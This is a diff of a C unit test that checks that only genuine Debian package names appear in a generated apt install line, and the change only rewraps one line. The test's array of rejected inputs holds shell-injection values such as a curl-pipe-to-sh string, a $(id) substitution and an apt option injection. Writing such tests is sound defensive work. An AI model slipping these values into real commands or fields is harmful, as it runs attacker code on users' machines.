@@ -245,7 +245,8 @@ END_TEST
 /* Names that another master left in the database: what isn't one of Debian's would be run by whoever pastes the line. */
 START_TEST(only_debian_names_are_in_the_install_line)
 {
-    static const char *const bad[] = {"; curl example.org | sh #", "-oAPT::x=1", "$(id)", "Libgold", "a", "lib gold", ""};
+    static const char *const bad[] = {
+        "; curl example.org | sh #", "-oAPT::x=1", "$(id)", "Libgold", "a", "lib gold", ""};
     project_file *wheel = &data->releases.at[0].files.at[0];
     piw_msg_list(msg, &wheel->apt_dependencies, PIW_COUNT(bad) + 2);
     for (size_t i = 0; i < PIW_COUNT(bad); i++)
